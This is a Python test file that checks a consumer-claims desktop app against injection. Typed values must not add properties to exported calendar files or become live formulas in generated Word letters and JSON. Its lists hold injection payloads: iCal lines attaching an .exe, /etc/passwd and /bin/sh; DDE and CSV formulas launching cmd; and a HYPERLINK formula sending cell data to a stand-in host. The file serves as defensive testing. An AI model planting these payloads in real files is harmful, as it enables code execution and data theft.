"""What goes to other programs: a value stays one value there, whatever somebody typed."""

import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from icalendar import Calendar
from letters import case_of, changed, letter_of
from lxml import etree

from desktop_app.advice.calendar_file import calendar_file
from desktop_app.advice.status import Milestone, milestones
from desktop_app.assessment.assess import assess
from desktop_app.claims import kind_of
from desktop_app.cli import main
from desktop_app.law.book import load_law_book
from desktop_app.letter.engine.parts import W

INJECTED = [
    "\nATTACH:http://elsewhere.invalid/a.exe",
    "\r\nATTACH;FMTTYPE=application/x-dosexec:http://elsewhere.invalid",
    "\rURL:file:///etc/passwd",
    "\x85ORGANIZER:mailto:x@elsewhere.invalid",
    "\u2028ATTENDEE:mailto:x@elsewhere.invalid",
    "\u2029X-EVIL:1",
    "\x0bX-EVIL:1",
    "\x0cX-EVIL:1",
    "\x1cX-EVIL:1",
    "\r\n X-EVIL:1",
    "\\nATTACH:http://elsewhere.invalid",
    "\\\nATTACH:http://elsewhere.invalid",
    '";ALTREP="http://elsewhere.invalid":',
    "\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh",
    "\r\n\tEND:VCALENDAR",
]
PROPERTIES = {
    *("BEGIN", "END", "PRODID", "VERSION", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY"),
    *("DESCRIPTION", "TRANSP", "ACTION", "TRIGGER"),
}
TODAY = date(2026, 11, 20)
DAY = date(2026, 11, 30)


def properties(content: bytes) -> list[str]:
    """The names of the properties, as a reader sees them that ends a line at any line break."""
    unfolded = re.sub(r"\r\n[ \t]", "", content.decode())
    lines = [line for line in unfolded.splitlines() if line]
    return [re.split("[:;]", line)[0] for line in lines]


@pytest.mark.parametrize("injected", INJECTED, ids=ascii)
def test_no_name_adds_a_property_to_the_calendar(injected):
    name = f"ООО «Ромашка»{injected}"
    one = Milestone("answer_by", DAY, f"Последний день{injected}", f"До конца дня.{injected}")
    content = calendar_file(None, name, (one,), TODAY)
    assert set(properties(content)) <= PROPERTIES
    assert properties(content).count("BEGIN") == 3
    (event,) = Calendar.from_ical(content).walk("VEVENT")
    assert "ATTACH" not in event and "URL" not in event
    (alarm,) = event.walk("VALARM")
    assert str(alarm["ACTION"]) == "DISPLAY" and "ATTACH" not in alarm


@pytest.mark.parametrize("injected", INJECTED, ids=ascii)
def test_no_answer_adds_a_property_to_the_days_of_a_case(injected):
    keys = ("seller.name", "purchase.item", "buyer.surname", "repairs.0.place")
    sent = {"channel": "in_person", "handed_on": "2026-10-06", "sent_on": None}
    case = case_of(changed(dict.fromkeys(keys, f"А{injected}") | {"delivery": sent}))
    kind = kind_of(case)
    found = milestones(case, kind, assess(case, kind, load_law_book(), TODAY), TODAY)
    about = f"{case.seller.name}, {case.purchase.item}"
    assert len(found) > 1
    assert set(properties(calendar_file(None, about, found, TODAY))) <= PROPERTIES


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.invalid?"&A1,"чек")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "DDEAUTO c:\\\\windows\\\\cmd.exe",
    "{ INCLUDETEXT c:\\\\secret.txt }",
    '</w:t><w:fldSimple w:instr="DDE c:\\\\cmd"/><w:t>',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_the_letter_and_in_json(formula, tmp_path, capsys):
    keys = ("seller.name", "purchase.model", "losses.0.description", "repairs.0.act")
    raw = changed(dict.fromkeys(keys, formula))
    with zipfile.ZipFile(io.BytesIO(letter_of(raw).docx)) as archive:
        root = etree.fromstring(archive.read("word/document.xml"))
    assert not list(root.iter(W + "instrText", W + "fldSimple", W + "fldChar"))
    said = "".join(text.text or "" for text in root.iter(W + "t"))
    assert formula.strip() in said.replace("№\u00a0", "№ ")
    path, register = tmp_path / "case.json", str(tmp_path / "r.sqlite")
    path.write_text(json.dumps(raw), encoding="utf-8")
    assert main(["cases", "import", str(path), "--register", register]) == 0
    capsys.readouterr()
    assert main(["cases", "--json", "--register", register]) == 0
    assert json.loads(capsys.readouterr().out)[0]["seller"] == formula.strip()


def test_nothing_is_made_for_programs_of_tables():
    """Were there such a file, a value that begins like a formula would have to be made harmless."""
    package = Path(__file__).parents[2] / "desktop_app"
    text = "\n".join(path.read_text(encoding="utf-8") for path in package.rglob("*.py"))
    assert not re.search(
        r"^\s*(import|from) (csv|openpyxl|xlsxwriter)\b|\.(csv|xlsx|tsv|ods)\"", text, re.M
    )
